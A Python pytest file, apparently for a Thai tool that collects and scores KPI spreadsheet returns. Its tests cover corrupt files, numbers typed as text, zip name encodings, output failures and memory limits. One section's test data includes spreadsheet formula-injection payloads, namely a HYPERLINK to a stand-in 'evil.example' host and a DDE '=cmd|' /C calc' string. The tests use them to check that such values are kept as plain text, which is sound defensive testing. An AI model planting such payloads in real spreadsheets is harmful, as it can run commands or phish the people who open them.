    "above 100 percent": ResultCase(17, {**B01_RESULTS, "2.1": 250}, "RESULT_IMPLAUSIBLE", W, OK,
                                    "K8"),
    "percent typed as fraction": ResultCase(17, {**B01_RESULTS, "2.1": 0.84},
                                            "RESULT_IMPLAUSIBLE", W, OK, "K8"),
}


@pytest.mark.parametrize("case", RESULT_CASES.values(), ids=RESULT_CASES.keys())
def test_doubtful_result(case: ResultCase, kit: Kit, tmp_path: Path) -> None:
    """INTAKE 15, 17: an error leaves the KPI unscored (never 0) and the office incomplete."""
    report = harvest_one(tmp_path, kit, B01_NAME, kit.filled_b01(case.results), case.code,
                         case.severity, case.status, REPORT, case.cell)
    b01 = office(report, "B01")
    flagged = next(k for k in b01.kpis if k.cell == case.cell)
    assert (flagged.sheet, flagged.cell) == (REPORT, case.cell)
    if case.severity is E:
        assert flagged.result is None and flagged.score is None and flagged.weighted is None
        others = [k for k in b01.kpis if k is not flagged]
        assert all(k.score is not None for k in others), "the other KPIs are still scored"


def test_formula_with_a_cached_value_is_still_a_formula(kit: Kit, tmp_path: Path) -> None:
    """INTAKE 15: a formula whose cached value looks right is still not a typed value."""
    data = H.cell_xml(kit.b01, "K9", b'<c r="K9" s="0"><f>1+2.5</f><v>3.5</v></c>')
    harvest_one(tmp_path, kit, B01_NAME, data, "RESULT_FORMULA", E, INC, REPORT, "K9")


def test_error_value_stored_as_error_cell(kit: Kit, tmp_path: Path) -> None:
    """INTAKE 15: an error cell (t="e") written by Excel after a failed formula was pasted."""
    data = H.cell_xml(kit.b01, "K9", b'<c r="K9" t="e"><v>#VALUE!</v></c>')
    report = harvest_one(tmp_path, kit, B01_NAME, data, "RESULT_ERROR_VALUE", E, INC, REPORT,
                         "K9")
    assert "#VALUE!" in next(p for p in report.problems if p.cell == "K9").message


@pytest.mark.parametrize("raw", [b"NaN", b"1e400"])
def test_non_finite_number_cell_is_a_kpi_error(raw: bytes, kit: Kit, tmp_path: Path) -> None:
    """INTAKE 15: a number cell holding NaN or infinity is 'not a number' on that KPI."""
    data = H.cell_xml(kit.b01, "K9", b'<c r="K9"><v>' + raw + b"</v></c>")
    harvest_one(tmp_path, kit, B01_NAME, data, "RESULT_NOT_NUMBER", E, INC, REPORT, "K9")


@pytest.mark.parametrize(("typed", "kpi", "cell", "number"), [
    ("1,234.5", "2.2", "K9", 1234.5),
    ("85%", "2.1", "K8", 85),
    ("๘๕", "2.1", "K8", 85),
    (" 85 ", "2.1", "K8", 85),
    ("๒.๕", "2.2", "K9", 2.5),
    ("\u00a085\u00a0", "2.1", "K8", 85),
    ("๔", "3.1", "K10", 4),
    ("1,000", "2.2", "K9", 1000),
])
def test_number_typed_as_text_is_read_with_a_warning(typed: str, kpi: str, cell: str,
                                                     number: float, kit: Kit,
                                                     tmp_path: Path) -> None:
    """INTAKE 16: unambiguous text numbers warn and score exactly as the plain number."""
    (tmp_path / "text").mkdir()
    (tmp_path / "plain").mkdir()
    with_text = harvest_one(tmp_path / "text", kit, B01_NAME,
                            kit.filled_b01({**B01_RESULTS, kpi: typed}),
                            "RESULT_NUMBER_AS_TEXT", W, OK, REPORT, cell)
    plain = beside(tmp_path / "plain", kit, {B01_NAME: kit.filled_b01({**B01_RESULTS,
                                                                        kpi: number})})
    text_kpi = next(k for k in office(with_text, "B01").kpis if k.kpi == kpi)
    plain_kpi = next(k for k in office(plain, "B01").kpis if k.kpi == kpi)
    assert text_kpi.result == plain_kpi.result == Decimal(str(number))
    assert text_kpi.score == plain_kpi.score is not None
    assert office(with_text, "B01").total_score == office(plain, "B01").total_score


@pytest.mark.parametrize("typed", ["1e999", "-1e400", "๑e๙๙๙"])
def test_absurd_exponent_text_does_not_break_the_summary(typed: str, kit: Kit,
                                                         tmp_path: Path) -> None:
    """INTAKE 15-16: '1e999' typed as text is not a number, and the summary is still written.

    Regression: it used to be accepted, then xlsxwriter refused the infinite number and
    write_summary raised TypeError, so one cell stopped the whole summary.
    """
    report = harvest_one(tmp_path, kit, B01_NAME,
                         kit.filled_b01({**B01_RESULTS, "2.2": typed}), "RESULT_NOT_NUMBER", E,
                         INC, REPORT, "K9")
    write_summary(report, tmp_path / "summary.xlsx")
    assert openpyxl.load_workbook(tmp_path / "summary.xlsx")


# -- INTAKE 18: texts that must stay plain text in the summary -------------------------------------

FORMULA_LIKE = ["=HYPERLINK(\"http://evil.example\",\"คลิก\")", "+66 2 123 4567",
                "-ลดลงร้อยละ 5-", "@SUM(1,2)", "=cmd|' /C calc'!A0"]
LONG = "ข้อความยาวมาก " * 3_000   # 42,000 characters: past Excel's 32,767 per cell


def _summary_cells(path: Path, sheet: str) -> list[tuple[object, str]]:
    ws = openpyxl.load_workbook(path)[sheet]
    return [(c.value, c.data_type) for row in ws.iter_rows() for c in row if c.value is not None]


def test_formula_like_and_long_texts_stay_plain_text(kit: Kit, tmp_path: Path) -> None:
    """INTAKE 18: texts starting with = + - @ and very long texts reach the summary as text."""
    data = kit.filled_b01(B01_RESULTS, {"2.2": {"NOTE": LONG}})
    data = H.edit(data, *(H.set_text(L.KPI_REPORT_SHEET, L.text_ref(1, text), value)  # 2.1's
                          for text, value in zip(TEXT_INPUTS, FORMULA_LIKE, strict=True)))
    data = H.edit(data, H.set_cell(L.KPI_REPORT_SHEET, L.text_ref(3, L.TEXT_INPUT["note"]),
                                   "=1+1"))     # a live formula typed in 3.1's note
    report = beside(tmp_path, kit, {B01_NAME: data})
    b01 = office(report, "B01")
    assert b01.status is OK and b01.total_score == B01_TOTAL
    write_summary(report, tmp_path / "summary.xlsx")
    cells = dict(_summary_cells(tmp_path / "summary.xlsx", "รายละเอียดตัวชี้วัด"))
    for text in [*FORMULA_LIKE, "=1+1"]:
        assert cells.get(text) == "s", f"{text!r} is not plain text in the summary"
    long = [v for v in cells if isinstance(v, str) and v.startswith("ข้อความยาวมาก")]
    assert len(long) == 1 and len(long[0]) <= 32_767 and cells[long[0]] == "s"
    with zipfile.ZipFile(tmp_path / "summary.xlsx") as archive:
        formulas = [f for name in archive.namelist() if name.startswith("xl/worksheets/")
                    for f in re.findall(r"<f>(.*?)</f>", archive.read(name).decode("utf-8"))]
    assert formulas, "the summary does have its own live formulas"
    assert not [f for f in formulas if "evil.example" in f or "cmd" in f or f == "1+1"]


def test_formula_like_sheet_and_file_names_stay_plain_text(kit: Kit, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """INTAKE 18: user-chosen sheet and file names reach the problems sheet as text."""
    returns = tmp_path / "returns"
    returns.mkdir()
    (returns / "=1+2.xlsx").write_bytes(H.edit(kit.b01, H.add_sheet("=SUM(1,2)"),
                                               H.add_sheet("@cmd")))
    (returns / "+B02.xlsx").write_bytes(kit.b02)
    (returns / "-ไม่ใช่.xlsx").write_bytes(H.CSV)
    before = digests(returns)
    monkeypatch.chdir(returns)
    report = harvest([Path("=1+2.xlsx"), Path("+B02.xlsx"), Path("-ไม่ใช่.xlsx")], kit.master,
                     12, jobs=1)
    assert digests(returns) == before
    assert office(report, "B01").status is OK and office(report, "B02").status is OK
    expect(report, "RETURN_EXTRA_SHEET", W, "=1+2.xlsx", "=SUM(1,2)")
    expect(report, "FILE_NOT_WORKBOOK", E, "-ไม่ใช่.xlsx")
    write_summary(report, tmp_path / "summary.xlsx")
    cells = dict(_summary_cells(tmp_path / "summary.xlsx", "ปัญหาที่พบ"))
    for text in ("=1+2.xlsx", "=SUM(1,2)", "@cmd", "-ไม่ใช่.xlsx"):
        assert cells.get(text) == "s", f"{text!r} is not plain text in the summary"
    sources = dict(_summary_cells(tmp_path / "summary.xlsx", "ที่มาข้อมูล"))
    assert sources.get("+B02.xlsx") == "s"


# -- INTAKE 19: external links ---------------------------------------------------------------------

def test_external_link_is_a_warning(kit: Kit, tmp_path: Path) -> None:
    """INTAKE 19: a link to another workbook is noted; only this file's values are used."""
    report = harvest_one(tmp_path, kit, B01_NAME, H.external_link(kit.b01),
                         "RETURN_EXTERNAL_LINKS", W, OK)
    assert office(report, "B01").total_score == B01_TOTAL


# -- INTAKE 20: saved by other programs ------------------------------------------------------------

def test_shared_strings_no_dimension_no_cached_values(kit: Kit, tmp_path: Path) -> None:
    """INTAKE 20: another program's layout of the same return is accepted and scores the same."""
    report = beside(tmp_path, kit, {B01_NAME: H.like_other_programs(kit.b01)})
    b01 = office(report, "B01")
    assert b01.status is OK and b01.total_score == B01_TOTAL
    assert not [p for p in report.problems if p.severity is E]


def test_libreoffice_resaved_return_scores_the_same(kit: Kit, tmp_path: Path,
                                                    libreoffice: Converter) -> None:
    """INTAKE 20: the good return re-saved by LibreOffice is accepted with the same score."""
    source = tmp_path / "src" / B01_NAME
    source.parent.mkdir()
    source.write_bytes(kit.filled_b01(B01_RESULTS, {"2.1": {"NOTE": "ทำครบทุกขั้นตอน"}}))
    [resaved] = libreoffice([source], tmp_path / "lo")
    report = beside(tmp_path, kit, {B01_NAME: resaved.read_bytes()})
    b01 = office(report, "B01")
    assert b01.status is OK, [p.message for p in report.problems]
    assert b01.total_score == B01_TOTAL
    assert not [p for p in report.problems if p.severity is E]
    kpi = next(k for k in b01.kpis if k.kpi == "2.1")
    assert kpi.texts["note"] == "ทำครบทุกขั้นตอน"


@pytest.mark.parametrize("target", ["xls", "ods"])
def test_real_legacy_formats_from_libreoffice(target: str, kit: Kit, tmp_path: Path,
                                              libreoffice: Converter) -> None:
    """INTAKE 3 (and 2's other half): a real .xls is OLE2 but not encrypted; .ods too."""
    source = tmp_path / "src" / B01_NAME
    source.parent.mkdir()
    source.write_bytes(kit.b01)
    [converted] = libreoffice([source], tmp_path / "lo", target)
    data = converted.read_bytes()
    if target == "xls":
        assert data.startswith(b"\xd0\xcf\x11\xe0")
    for name in (converted.name, B01_NAME):
        (tmp_path / name).mkdir()
        report = harvest_one(tmp_path / name, kit, name, data, "FILE_OTHER_FORMAT", E, MISS)
        assert "(.xlsx)" in next(p for p in report.problems
                                 if p.code == "FILE_OTHER_FORMAT").message


# -- INTAKE 21-22: the output side -----------------------------------------------------------------

@pytest.fixture()
def cli_world(kit: Kit, tmp_path: Path) -> SimpleNamespace:
    """A master file, a returns folder with a good B01, a good B02 and a hostile file."""
    master = write_master(tmp_path / "master.xlsx")
    returns = tmp_path / "returns"
    returns.mkdir()
    (returns / B01_NAME).write_bytes(kit.b01)
    (returns / "2569-R12-B02.xlsx").write_bytes(kit.b02)
    (returns / "เสีย.xlsx").write_bytes(H.truncated(kit.b01))
    out = tmp_path / "out"
    out.mkdir()
    return SimpleNamespace(master=master, returns=returns, out=out)


def run_cli(world: SimpleNamespace, summary: Path, *extra: str) -> tuple[int, str, str]:
    """``workbook-engine harvest`` in-process: exit code, stdout, stderr."""
    args = ["harvest", str(world.returns), "--master", str(world.master), "--round", "12",
            "--out", str(summary), "--jobs", "1", *extra]
    result = CliRunner().invoke(cli, args, catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


def previous_summary(path: Path) -> bytes:
    """A previous summary already in place."""
    path.write_bytes(b"previous summary: must survive")
    return path.read_bytes()


def test_cli_harvest_writes_the_summary(cli_world: SimpleNamespace) -> None:
    """INTAKE 21-22 baseline: a hostile file gives exit 1, with the summary written."""
    before = digests(cli_world.returns)
    code, _out, _err = run_cli(cli_world, cli_world.out / "summary.xlsx")
    assert code == 1
    assert openpyxl.load_workbook(cli_world.out / "summary.xlsx")
    assert digests(cli_world.returns) == before


def test_cli_output_folder_not_writable(cli_world: SimpleNamespace,
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """INTAKE 21: a read-only output folder: a clear message, exit 2, the old summary intact."""
    summary = cli_world.out / "summary.xlsx"
    old = previous_summary(summary)
    cli_world.out.chmod(0o555)
    real_access = os.access
    read_only = cli_world.out.resolve()

    def access(path: str | os.PathLike[str], mode: int, **kwargs: object) -> bool:
        if mode & os.W_OK and Path(path).resolve() == read_only:
            return False   # as for a normal user; root ignores the mode bits
        return real_access(path, mode, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(os, "access", access)  # the os module the CLI uses
    try:
        code, _out, err = run_cli(cli_world, summary)
    finally:
        cli_world.out.chmod(0o755)
    assert code == 2
    assert str(read_only) in err and "เขียน" in err
    assert summary.read_bytes() == old
    assert sorted(p.name for p in cli_world.out.iterdir()) == ["summary.xlsx"]


def test_cli_output_folder_missing(cli_world: SimpleNamespace) -> None:
    """INTAKE 21: an output folder that does not exist: exit 2, nothing written anywhere."""
    code, _out, err = run_cli(cli_world, cli_world.out / "ไม่มี" / "summary.xlsx")
    assert code == 2 and "ไม่มี" in err
    assert not (cli_world.out / "ไม่มี").exists()


@pytest.mark.parametrize("how", ["summary open in another program", "disk full mid-write"])
def test_cli_summary_cannot_be_replaced(how: str, cli_world: SimpleNamespace,
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """INTAKE 21: the rename is refused or writing fails: exit 2, old summary intact, no debris."""
    from workbook_engine.summary import workbook as summary_module

    summary = cli_world.out / "summary.xlsx"
    old = previous_summary(summary)
    if how == "summary open in another program":
        real_replace = os.replace

        def replace(src: str | os.PathLike[str], dst: str | os.PathLike[str]) -> None:
            if Path(dst) == summary:
                raise PermissionError(13, "The process cannot access the file", str(dst))
            real_replace(src, dst)

        monkeypatch.setattr(os, "replace", replace)  # the os module the summary uses
    else:
        def full(self: object) -> None:
            raise OSError(28, "No space left on device")

        monkeypatch.setattr(summary_module._Summary, "problems", full)
    code, _out, err = run_cli(cli_world, summary, "--json", str(cli_world.out / "r.json"))
    assert code == 2
    assert str(summary) in err and "ไม่ได้" in err
    assert summary.read_bytes() == old
    assert sorted(p.name for p in cli_world.out.iterdir()) == ["summary.xlsx"]


def test_write_summary_failure_leaves_the_previous_one(kit: Kit, tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """INTAKE 21: write_summary raises OutputError and leaves the old file and no temporary."""
    from workbook_engine.summary import workbook as summary_module

    report = beside(tmp_path, kit, {B01_NAME: kit.b01})
    target = tmp_path / "out" / "summary.xlsx"
    target.parent.mkdir()
    old = previous_summary(target)

    def broken(self: object) -> None:
        raise OSError(5, "Input/output error")

    monkeypatch.setattr(summary_module._Summary, "details", broken)
    with pytest.raises(OutputError):
        write_summary(report, target)
    assert target.read_bytes() == old
    assert [p.name for p in target.parent.iterdir()] == ["summary.xlsx"]


def _normalised(path: Path, started: dt.datetime) -> dict[str, list[tuple[object, ...]]]:
    """Every sheet's values, with the harvest time (and any other time since ``started``)
    and the ledger's run number blanked."""
    wb = openpyxl.load_workbook(path)
    sheets = {ws.title: [tuple("<now>" if isinstance(v, dt.datetime) and v >= started else v
                               for v in row) for row in sheet_values(ws)]
              for ws in wb.worksheets}
    for title, rows in sheets.items():
        runs = [i for i, v in enumerate(rows[0]) if v == "ครั้งที่รวบรวม"] if rows else []
        sheets[title] = [tuple("<run>" if i in runs or (str(row[0]).startswith("การรวบรวมครั้งที่")
                               and i == 1) else v for i, v in enumerate(row)) for row in rows]
    return sheets


def test_harvesting_again_gives_the_same_summary(kit: Kit, tmp_path: Path) -> None:
    """INTAKE 22: the same hostile folder harvested twice gives the same summary and JSON."""
    files = {B01_NAME: kit.filled_b01({**B01_RESULTS, "2.1": "๘๔"}),
             **{f"bad-{name}.xlsx": case.build(kit.b01) for name, case in FILE_CASES.items()
                if case.intake in (1, 5, 7)}}
    report = beside(tmp_path, kit, files)
    moment = dt.datetime(2026, 10, 20, 9, 30, tzinfo=dt.UTC)
    returns = tmp_path / "returns"
    first, second = tmp_path / "first.xlsx", tmp_path / "second.xlsx"
    write_summary(harvest([returns], kit.master, 12, jobs=1, now=moment), first)
    write_summary(harvest([returns], kit.master, 12, jobs=2, now=moment), second)
    assert len(report.files) >= 8, "enough files for the parallel path"
    started = dt.datetime(2000, 1, 1)
    assert _normalised(first, started) == _normalised(second, started)


def test_cli_twice_gives_identical_results(cli_world: SimpleNamespace) -> None:
    """INTAKE 22: two CLI runs give byte-identical JSON and the same summary content."""
    started = dt.datetime.now() - dt.timedelta(minutes=5)
    for name in ("a", "b"):
        code, out, _err = run_cli(cli_world, cli_world.out / f"{name}.xlsx", "--json",
                                  str(cli_world.out / f"{name}.json"))
        assert code == 1
    assert (cli_world.out / "a.json").read_bytes() == (cli_world.out / "b.json").read_bytes()
    assert "อ่านไฟล์ใหม่ 0 ไฟล์" in out, "the second run takes every file from the ledger"
    data = json.loads((cli_world.out / "a.json").read_text(encoding="utf-8"))
    assert [o["status"] for o in data["offices"]] == ["accepted", "accepted"]
    assert any(p["code"] == "FILE_CORRUPT" and p["file"].endswith("เสีย.xlsx")
               for p in data["problems"])
    assert _normalised(cli_world.out / "a.xlsx", started) == \
        _normalised(cli_world.out / "b.xlsx", started)


# -- returns as real tools write them: archives, names, formats, long values, memory ---------------

def thai_zip(members: dict[str, bytes], encoding: str) -> bytes:
    """A zip whose member names are written in ``encoding`` without the UTF-8 flag, as
    Windows' built-in zip writes them on a Thai PC (cp874)."""
    stand_ins = {name: f"n{i:0{len(name.encode(encoding)) - 1}d}"
                 for i, name in enumerate(members)}
    data = H.make_zip({stand_ins[name]: content for name, content in members.items()})
    for name, stand_in in stand_ins.items():
        assert data.count(stand_in.encode()) == 2       # the local header and the directory
        data = data.replace(stand_in.encode(), name.encode(encoding))
    return data


@pytest.mark.parametrize("encoding", ["cp874", "utf-8"])
def test_thai_names_inside_a_zip_without_the_utf8_flag(encoding: str, kit: Kit,
                                                       tmp_path: Path) -> None:
    """A Thai member name without the UTF-8 flag is shown as Thai, not as code page 437."""
    thai = "กองแผนงาน/ผลรอบ 12 เดือน.xlsx"
    archive = thai_zip({thai: kit.b01, "ข้อมูล.txt": b"notes"}, encoding)
    with zipfile.ZipFile(io.BytesIO(archive)) as check:
        assert not any(i.flag_bits & 0x800 for i in check.infolist())
    report = beside(tmp_path, kit, {"returns.zip": archive})
    b01 = office(report, "B01")
    assert b01.status is OK and b01.file.endswith("returns.zip/" + thai)
    expect(report, "FILE_NOT_WORKBOOK", E, "returns.zip/ข้อมูล.txt")
    assert thai in json.dumps(report.as_json(), ensure_ascii=False)


def test_a_name_that_is_not_thai_stays_code_page_437(kit: Kit, tmp_path: Path) -> None:
    """Bytes that do not read as Thai in cp874 keep the zip standard's reading."""
    archive = thai_zip({"résumé.txt": b"x"}, "cp437")
    report = beside(tmp_path, kit, {"returns.zip": archive})
    expect(report, "FILE_NOT_WORKBOOK", E, "returns.zip/résumé.txt")


@pytest.mark.parametrize("members", [{}, {"folder/": b"", "__MACOSX/._x.xlsx": b"\0\5"},
                                     {"~$2569-R12-B01.xlsx": b"lock"}],
                         ids=["empty", "folders and __MACOSX", "lock file only"])
def test_an_archive_with_nothing_to_harvest_says_so(members: dict[str, bytes], kit: Kit,
                                                    tmp_path: Path) -> None:
    report = beside(tmp_path, kit, {"returns.zip": H.make_zip(members)})
    expect(report, "FILE_ARCHIVE_EMPTY", W, "returns.zip")
    if "~$2569-R12-B01.xlsx" in members:
        expect(report, "FILE_LOCK_FILE_SKIPPED", W, "returns.zip/~$2569-R12-B01.xlsx")


def test_a_zip_inside_a_zip_is_to_be_extracted_first(kit: Kit, tmp_path: Path) -> None:
    inner = H.make_zip({B01_NAME: kit.b01})
    report = beside(tmp_path, kit, {"returns.zip": H.make_zip({"inner.zip": inner})})
    found = expect(report, "FILE_NESTED_ARCHIVE", E, "returns.zip/inner.zip")
    assert "แตกไฟล์" in found.message
    assert office(report, "B01").status is MISS


def test_a_file_given_twice_is_one_file(kit: Kit, tmp_path: Path) -> None:
    """The same path (or a folder and a file in it) given twice is read once: no 'identical
    to itself'."""
    returns = tmp_path / "returns"
    returns.mkdir()
    (returns / B01_NAME).write_bytes(kit.b01)
    report = harvest([returns, returns / B01_NAME, returns / "." / B01_NAME], kit.master, 12,
                     jobs=1)
    assert [f.file for f in report.files] == [str(returns / B01_NAME)]
    assert not any(p.code == "RETURN_SAME_FILE_TWICE" for p in report.problems)


BIFF4 = b"\x09\x04\x06\x00\x00\x00\x10\x00" + bytes(100)
FODS = (b'<?xml version="1.0" encoding="UTF-8"?>\n<office:document xmlns:office="urn:oasis:names:'
        b'tc:opendocument:xmlns:office:1.0" office:version="1.3" office:mimetype="application/'
        b'vnd.oasis.opendocument.spreadsheet"><office:body/></office:document>')
SPREADSHEETML = (b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n<Workbook '
                 b'xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="1"/>'
                 b'</Workbook>')


@pytest.mark.parametrize(("data", "named"), [
    (BIFF4, "Excel 2.x-4.0"), (b"\x09\x00\x04\x00\x02\x00\x10\x00", "Excel 2.x-4.0"),
    (FODS, ".fods"), (SPREADSHEETML, "XML Spreadsheet 2003"),
    (SPREADSHEETML.decode().encode("utf-16"), "XML Spreadsheet 2003")],
    ids=["BIFF4", "BIFF2", "fods", "SpreadsheetML 2003", "SpreadsheetML 2003 in UTF-16"])
def test_other_spreadsheet_formats_are_named(data: bytes, named: str, kit: Kit,
                                             tmp_path: Path) -> None:
    report = harvest_one(tmp_path, kit, "2569-R12-B01.xls", data, "FILE_OTHER_FORMAT", E, MISS)
    found = expect(report, "FILE_OTHER_FORMAT", E, "2569-R12-B01.xls")
    assert named in found.message and ".xlsx" in found.message


def test_a_pdf_is_named_and_only_its_first_bytes_are_kept(kit: Kit, tmp_path: Path) -> None:
    report = harvest_one(tmp_path, kit, "evidence.pdf", b"%PDF-1.7\n" + bytes(300_000),
                         "FILE_NOT_WORKBOOK", E, MISS)
    found = expect(report, "FILE_NOT_WORKBOOK", E, "evidence.pdf")
    assert "PDF" in found.message
    [record] = [f for f in report.files if f.file.endswith("evidence.pdf")]
    assert record.size == 300_009 and record.sha256 == hashlib.sha256(
        b"%PDF-1.7\n" + bytes(300_000)).hexdigest()


def test_memory_is_bounded_by_the_largest_file_not_the_sum(kit: Kit, tmp_path: Path) -> None:
    """Forty MB of other files beside the returns: the harvest allocates about what the returns
    alone need (each other file streamed through its digest, never held)."""
    import tracemalloc

    def peak(extra: dict[str, bytes]) -> int:
        folder = tmp_path / f"run{len(extra)}"
        (folder / "evidence").mkdir(parents=True)
        (folder / B01_NAME).write_bytes(kit.b01)
        for name, data in extra.items():
            (folder / "evidence" / name).write_bytes(data)
        tracemalloc.start()
        try:
            harvest([folder], kit.master, 12, jobs=1)
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    alone = peak({})
    beside_big = peak({f"scan{i}.pdf": b"%PDF" + os.urandom(10 << 20) for i in range(4)})
    assert beside_big < alone + (3 << 20), (alone, beside_big)


def test_quoted_values_are_short_and_on_one_line(kit: Kit, tmp_path: Path) -> None:
    """A 32,767-character paste with line breaks into a result cell: the message quotes a
    short, one-line piece of it."""
    pasted = ("ผลการดำเนินงาน\r\nบรรทัดที่สอง " * 2_000)[:32_767]
    data = kit.filled_b01({**B01_RESULTS, "2.1": pasted})
    report = harvest_one(tmp_path, kit, B01_NAME, data, "RESULT_NOT_NUMBER", E, INC,
                         sheet=REPORT)
    found = expect(report, "RESULT_NOT_NUMBER", E, B01_NAME, sheet=REPORT)
    assert "…" in found.message and "⏎" in found.message
    assert len(found.message) < 500


def test_many_problems_of_one_code_are_counted_not_listed(kit: Kit, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch
                                                          ) -> None:
    """Past :data:`MAX_SAME_PROBLEMS` problems of one code in one file, the rest are counted
    in one problem, so one file's problems stay bounded."""
    from workbook_engine.harvesting import checked

    monkeypatch.setattr(checked, "MAX_SAME_PROBLEMS", 2)
    data = H.edit(kit.b01, H.set_cell(REPORT, "E7", 99), H.set_cell(REPORT, "E8", 98),
                  H.set_cell(REPORT, "E9", 97))
    report = beside(tmp_path, kit, {B01_NAME: data})
    changed = [p for p in report.problems if p.code == "RETURN_LOCKED_CHANGED"]
    assert len(changed) == 2
    omitted = expect(report, "PROBLEMS_OMITTED", W, B01_NAME)
    assert "RETURN_LOCKED_CHANGED" in omitted.message and " 1 รายการ" in omitted.message
    assert office(report, "B01").status is REJ


def test_hidden_rows_are_told_as_runs(kit: Kit, tmp_path: Path) -> None:
    data = H.edit(kit.b01, H.hide_row(REPORT, 2), H.hide_row(REPORT, 3), H.hide_row(REPORT, 4),
                  H.hide_row(REPORT, 6))
    report = beside(tmp_path, kit, {B01_NAME: data})
    found = expect(report, "RETURN_HIDDEN", W, B01_NAME, sheet=REPORT)
    assert "มีแถว 2-4, 6 ที่ถูกซ่อนไว้" in found.message
